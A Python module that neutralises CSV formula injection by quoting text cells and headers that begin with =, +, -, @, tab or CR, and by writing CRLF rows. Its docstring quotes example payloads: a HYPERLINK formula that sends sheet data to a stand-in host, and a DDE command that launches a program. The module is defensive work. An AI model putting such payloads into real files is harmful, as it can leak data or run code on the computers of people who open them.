"""CSV cells that a spreadsheet would run as formulas, neutralised before any CSV leaves the platform.

Cell ids, label values and class names come from users' files. Opened in Excel, LibreOffice or Google Sheets, a
cell such as ``=HYPERLINK("http://evil.example?"&A2)``, ``+1+cmd|' /C calc'!A0`` or ``@SUM(...)`` is a formula that
can send the sheet's data away or (with DDE) run a program. As OWASP advises ("CSV Injection"), any text cell or
header beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote, which
spreadsheets show as text and never evaluate. Numeric columns (confidence, UMAP coordinates, probabilities) are
never touched, so negative numbers stay numbers; a text cell that is a plain decimal number (``-1``, ``+2.5e3``,
e.g. a cluster label) is left as it is too: a spreadsheet reads it as that number, not as a formula.

Rows end with CRLF (RFC 4180), which also makes the writer quote every field holding a carriage return or a line
feed: with pandas' default LF line end a lone CR inside a cell id is written bare, and a spreadsheet starts a new
row there, so a cell id ``x<CR>=1+1`` would become a second row whose first cell is the formula ``=1+1``.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import IO

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LINE_END = "\r\n"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value: object) -> object:
    """``value`` with a leading ``'`` when it is text a spreadsheet would read as a formula; anything else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def _column(col: pd.Series) -> pd.Series:
    if isinstance(col.dtype, pd.CategoricalDtype):
        categories = list(col.cat.categories)
        if [neutralise(c) for c in categories] == categories:
            return col  # the usual case: one pass over the categories, not over a million cells
        return col.astype(object).map(neutralise)
    if pd.api.types.is_object_dtype(col.dtype) or pd.api.types.is_string_dtype(col.dtype):
        return col.map(neutralise)
    return col  # numbers, booleans, dates: a spreadsheet never reads these as formulas


def neutralised(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` to write as CSV: headers and text cells that could start a formula quoted, numbers
    untouched (the parquet and ``.h5ad`` keep the values as they were)."""
    out = pd.DataFrame({i: _column(frame.iloc[:, i]) for i in range(frame.shape[1])}, index=frame.index)
    out.columns = [neutralise(c) for c in frame.columns]
    return out


def write_csv(frame: pd.DataFrame, target: str | Path | IO[str], header: bool = True) -> None:
    """``frame`` as CSV rows, neutralised, each field with a line break quoted (the only CSV writer to use)."""
    neutralised(frame).to_csv(target, index=False, header=header, lineterminator=LINE_END)
